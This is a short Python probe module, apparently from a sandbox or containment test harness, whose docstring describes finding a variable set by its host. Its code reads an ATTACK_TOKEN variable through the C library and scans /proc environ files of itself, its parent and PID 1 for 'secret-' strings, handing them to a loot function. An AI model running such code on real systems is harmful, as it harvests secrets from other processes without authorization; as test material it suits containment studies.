"""Finds a variable that its host has set since it started: by the C library, and in the environment of its parents.

group: environment
effect: reads
"""
import re

libc.getenv.restype = ctypes.c_char_p
loot(libc.getenv(b"ATTACK_TOKEN"))
for pid in ("self", os.getppid(), 1):
    with attempt(pid):
        loot(re.findall(rb"secret-\w+", read(f"/proc/{pid}/environ")))
